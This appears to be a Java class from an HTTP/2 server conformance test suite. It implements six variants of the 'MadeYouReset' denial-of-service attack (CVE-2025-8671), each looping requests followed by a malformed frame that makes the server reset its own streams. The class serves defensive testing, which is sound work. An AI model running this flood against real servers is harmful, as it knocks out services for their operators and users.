package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.Messages;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;

/** Calls that the server has to reset itself, because of a wrong frame (CVE-2025-8671). */
enum MadeYouReset implements Attack {
  ZERO_WINDOW_UPDATE("zero-window-update", "WINDOW_UPDATE of 0"),
  STREAM_WINDOW_OVERFLOW("stream-window-overflow", "too many RESET_STREAM"),
  SHORT_PRIORITY("short-priority", "PRIORITY is not 5 octets long"),
  OWN_PARENT("own-parent", "too many PRIORITY"),
  LATE_DATA("late-data", "STREAM_CLOSED: DATA"),
  LATE_HEADERS("late-headers", "STREAM_CLOSED: HEADERS");

  private final String name;
  private final String reason;

  MadeYouReset(String name, String reason) {
    this.name = "made-you-reset-" + name;
    this.reason = reason;
  }

  @Override
  public AttackDescription description() {
    return AttackDescription.cutOff(
            reason,
            name,
            "RFC 9113 §5.4, §10.5",
            "ends the connection for the wrong frame, or counts its own resets")
        .published("2025-8671 2025-55163 2025-5115 2025-48989");
  }

  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect();
    Requests requests = Requests.to(Requests.UNARY);
    for (int id = 1; front.goesOn(connection); id += 2) {
      connection.send(Frames.headers(id, Frames.END_HEADERS, requests.next()));
      connection.send(Frames.data(id, endOfRequest(), Messages.empty()));
      connection.send(wrongFrame(id, requests));
    }
  }

  private int endOfRequest() {
    return switch (this) {
      case LATE_DATA, LATE_HEADERS -> Frames.END_STREAM;
      case ZERO_WINDOW_UPDATE, STREAM_WINDOW_OVERFLOW, SHORT_PRIORITY, OWN_PARENT -> Frames.NONE;
    };
  }

  private byte[] wrongFrame(int id, Requests requests) {
    return switch (this) {
      case ZERO_WINDOW_UPDATE -> Frames.windowUpdate(id, 0);
      case STREAM_WINDOW_OVERFLOW -> Frames.windowUpdate(id, Frames.LARGEST_WINDOW);
      case SHORT_PRIORITY -> Frames.frame(Frames.PRIORITY, Frames.NONE, id, new byte[4]);
      case OWN_PARENT -> Frames.priority(id, id, 1);
      case LATE_DATA -> Frames.data(id, Frames.END_STREAM, Messages.empty());
      case LATE_HEADERS ->
          Frames.headers(id, Frames.END_HEADERS | Frames.END_STREAM, requests.next());
    };
  }
}
